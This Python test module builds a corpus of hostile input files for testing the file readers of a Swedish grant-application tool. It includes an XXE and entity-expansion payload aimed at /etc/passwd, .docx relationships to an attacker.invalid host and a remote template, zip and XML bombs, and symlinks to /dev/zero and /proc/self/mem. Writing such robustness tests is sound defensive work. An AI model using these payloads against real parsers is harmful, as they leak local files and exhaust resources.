"""The building blocks of the bad-input corpus: the Payload record, a good draft and source, and
the makers of each kind of file (Word, PDF, zip bombs, links, pipes …). payloads.py lists the
payloads made from them and re-exports these names."""

from __future__ import annotations

import io
import os
import random
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SOURCES = ROOT / "tests" / "fixtures" / "library-sources"
FORM_FILE = ROOT / "sections" / "finsam-malmo.toml"

FILE_READERS = ("status", "check", "export", "forms-check", "import", "new-from", "forms-new")
DRAFT_READERS = ("status", "check", "export")
BUDGET_READERS = ("check", "export")

APPLICATION_TEXT = """Ansökan om projektmedel – Vägen vidare

1. Kontaktuppgifter
Projektägare: Arbetsmarknadsförvaltningen, Malmö stad.

2. Bakgrund
Många unga vuxna i Malmö står långt från arbetsmarknaden och behöver samordnat stöd från kommunen,
Arbetsförmedlingen och Försäkringskassan. Insatsen bygger på erfarenheter från tidigare projekt.

3. Presentation av insatsen (inled med kort sammanfattning)
Insatsen ger deltagarna ett samordnat stöd mot arbete eller studier med en gemensam plan.

3.2. Målgrupp
Målgruppen är 60 unga vuxna, kvinnor och män, 18–29 år som saknar sysselsättning.

4. Mål
Minst 40 procent av deltagarna går vidare till arbete eller studier.
"""


@dataclass
class Payload:
    name: str
    make: Callable[[Path], Path]
    groups: tuple[str, ...] = FILE_READERS
    heavy: bool = False  # large or slow to build: only in the full corpus
    timeout: float = 20.0
    note: str = ""
    only: tuple[str, ...] = field(default_factory=tuple)  # restrict to these readers


# ---------------------------------------------------------------------------------------------
# Building blocks


def real_source_text() -> str:
    """One of the real, messy approved applications (from the test fixtures), else a clean one."""
    path = SOURCES / "001_4b5533777013640f.txt"
    return path.read_text(encoding="utf-8") if path.exists() else APPLICATION_TEXT


def good_draft_text(**changes) -> str:
    """A valid, filled-in draft written by the core itself."""
    import datetime as dt

    from assistant.core.model.drafts import Contact, new_draft, to_text
    from assistant.core.model.forms import load_form

    form = load_form("finsam-malmo")
    draft = new_draft(form, title="Vägen vidare", organisation="Malmö stad", municipality="Malmö")
    draft.start, draft.end = dt.date(2026, 1, 1), dt.date(2027, 12, 31)
    draft.contacts = [
        Contact(
            name="Anna Ek",
            role="Projektledare",
            organisation="Malmö stad",
            phone="040-34 10 00",
            email="anna.ek@example.se",
        )
    ]
    for heading in form.headings:
        if heading.kind == "text":
            draft.set_text(
                heading.key,
                f"Text om {heading.title.lower()} för unga vuxna i Malmö. "
                "Kommunen och Arbetsförmedlingen samverkar kring kvinnor och män.",
            )
    draft.budget.years = [2026, 2027]
    for category in form.budget.categories:
        draft.budget.set_cell(category, 2026, "100 000")
        draft.budget.set_cell(category, 2027, "100 000")
    for key, value in changes.items():
        if key.startswith("section_"):
            draft.set_text(key[len("section_") :], value)
        else:
            setattr(draft, key, value)
    return to_text(draft, form)


def docx_bytes(paragraphs: list[tuple[str, str | None]] | None = None) -> bytes:
    import docx

    document = docx.Document()
    for text, style in paragraphs or [
        ("Ansökan om projektmedel", "Title"),
        ("2. Bakgrund", "Heading 1"),
        ("Många unga vuxna står långt från arbetsmarknaden och behöver stöd.", None),
        ("4. Mål", "Heading 1"),
        ("Minst 40 procent av deltagarna går vidare till arbete.", None),
    ]:
        document.add_paragraph(text, style=style)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def pdf_bytes(lines: list[str]) -> bytes:
    """A minimal one-page PDF whose text pypdf can extract (Helvetica, WinAnsi)."""

    def esc(s: str) -> str:
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    stream = "BT /F1 11 Tf 50 800 Td 14 TL " + " ".join(f"({esc(line)}) '" for line in lines) + " ET"
    data = stream.encode("cp1252", "replace")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        b"<< /Length " + str(len(data)).encode() + b" >>\nstream\n" + data + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{n} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for off in offsets:
        out += f"{off:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def _write(name: str, data: bytes | str) -> Callable[[Path], Path]:
    def make(directory: Path) -> Path:
        path = directory / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return path

    return make


def _lazy(name: str, build: Callable[[], bytes | str]) -> Callable[[Path], Path]:
    def make(directory: Path) -> Path:
        return _write(name, build())(directory)

    return make


def _docx_with(
    name: str, extra: dict[str, bytes], content_types: bytes | None = None, document_xml: bytes | None = None
) -> Callable[[Path], Path]:
    """A real .docx with members added or replaced (macros, XXE)."""

    def make(directory: Path) -> Path:
        source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
        members = dict(extra)
        path = directory / name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
            for info in source.infolist():
                data = members.pop(info.filename, source.read(info.filename))
                if info.filename == "[Content_Types].xml" and content_types:
                    data = data.replace(b"</Types>", content_types + b"</Types>")
                if info.filename == "word/document.xml" and document_xml:
                    data = document_xml
                out.writestr(info.filename, data)
            for member, data in members.items():
                out.writestr(member, data)
        return path

    return make


EXTERNAL_RELATIONS = (
    b'<Relationship Id="rIdX1" Target="http://attacker.invalid/track.png" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
    b'<Relationship Id="rIdX2" Target="file:///etc/passwd" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
    b'<Relationship Id="rIdX3" Target="\\\\attacker.invalid\\share\\evil.dotm" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
)


def _with_external_refs(directory: Path) -> Path:
    """Relations to a web address, a local file and a remote template (never fetched)."""
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    path = directory / "externa-referenser.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", EXTERNAL_RELATIONS + b"</Relationships>")
            out.writestr(info.filename, data)
    return path


XXE_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    b"<w:p><w:r><w:t>2. Bakgrund</w:t></w:r></w:p>"
    b"<w:p><w:r><w:t>Hemlig fil: &xxe; och &lol3;</w:t></w:r></w:p>"
    b"</w:body></w:document>"
)


def _zip_bomb(name: str, members: int, member_bytes: int) -> Callable[[Path], Path]:
    """A small .docx whose members decompress to `members × member_bytes` of zeros."""

    def make(directory: Path) -> Path:
        base = zipfile.ZipFile(io.BytesIO(docx_bytes()))
        path = directory / name
        chunk = b"\0" * (1 << 20)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
            for info in base.infolist():
                out.writestr(info.filename, base.read(info.filename))
            for n in range(members):
                with out.open(f"word/media/image{n}.bin", "w", force_zip64=True) as member:
                    for _ in range(member_bytes >> 20):
                        member.write(chunk)
        return path

    return make


def _xml_bomb_under_limit(directory: Path) -> Path:
    """document.xml just under the unpacked limit, all of it paragraphs: slow to read, not refused by size."""
    base = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    path = directory / "xml-bomb-190mb.docx"
    para = b"<w:p><w:r><w:t>a</w:t></w:r></w:p>"
    head, tail = base.read("word/document.xml").split(b"<w:body>", 1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as out:
        for info in base.infolist():
            if info.filename != "word/document.xml":
                out.writestr(info.filename, base.read(info.filename))
        with out.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(head + b"<w:body>")
            block = para * 30_000
            for _ in range(190_000_000 // len(block)):
                member.write(block)
            member.write(tail)
    return path


def _truncated(name: str, build: Callable[[], bytes], keep: float) -> Callable[[Path], Path]:
    return _lazy(name, lambda: (lambda data: data[: int(len(data) * keep)])(build()))


def _flipped(name: str, build: Callable[[], bytes]) -> Callable[[Path], Path]:
    def corrupt() -> bytes:
        data = bytearray(build())
        rng = random.Random(7)
        for _ in range(40):
            i = rng.randrange(len(data) // 4, len(data))
            data[i] ^= 0xFF
        return bytes(data)

    return _lazy(name, corrupt)


def _png() -> bytes:
    import struct
    import zlib

    raw = b"".join(b"\0" + b"\xff\x00\x00" * 8 for _ in range(8))

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def _elf() -> bytes:
    for candidate in ("/bin/true", "/usr/bin/true", sys.executable):
        if Path(candidate).exists():
            return Path(candidate).read_bytes()[:200_000]
    return b"\x7fELF\x02\x01\x01" + bytes(500)


def _big_text(directory: Path) -> Path:
    path = directory / "stor-50mb.txt"
    paragraph = (APPLICATION_TEXT * 3).encode("utf-8")
    with path.open("wb") as handle:
        while handle.tell() < 50_000_000:
            handle.write(paragraph)
    return path


def _big_draft(directory: Path) -> Path:
    """A draft just under the 20 MB draft limit: every reader must stay bounded in time."""
    sentence = "Deltagarna får stöd av handläggare från kommunen och Arbetsförmedlingen varje vecka. "
    body = "\n\n".join(sentence * 8 for _ in range(24_000))
    return _write("stor-18mb.md", good_draft_text(section_bakgrund=body))(directory)


def _directory(directory: Path) -> Path:
    path = directory / "katalog.md"
    path.mkdir()
    return path


def _unreadable(directory: Path) -> Path:
    path = _write("las-ej.md", good_draft_text())(directory)
    path.chmod(0)  # as root this is still readable: the other "unreadable" cases cover root
    return path


def _symlink_loop(directory: Path) -> Path:
    a, b = directory / "loop-a.md", directory / "loop-b.md"
    a.symlink_to(b)
    b.symlink_to(a)
    return a


def _dangling(directory: Path) -> Path:
    path = directory / "dinglande.md"
    path.symlink_to(directory / "finns-inte.md")
    return path


def _fifo(directory: Path) -> Path:
    path = directory / "ror.md"
    os.mkfifo(path)
    return path


def _proc_mem(directory: Path) -> Path:
    """A file that exists and cannot be read even by root (read gives EIO)."""
    path = directory / "minne.txt"
    path.symlink_to("/proc/self/mem")
    return path


def _not_a_directory(directory: Path) -> Path:
    (directory / "fil.txt").write_text("x", encoding="utf-8")
    return directory / "fil.txt" / "utkast.md"


def _name_too_long(directory: Path) -> Path:
    return directory / ("å" * 300 + ".md")


def _missing(directory: Path) -> Path:
    return directory / "saknas.md"


def _dev_zero(directory: Path) -> Path:
    """Endless bytes behind a harmless name: readers must not read until memory runs out."""
    path = directory / "oandlig.txt"
    path.symlink_to("/dev/zero")
    return path
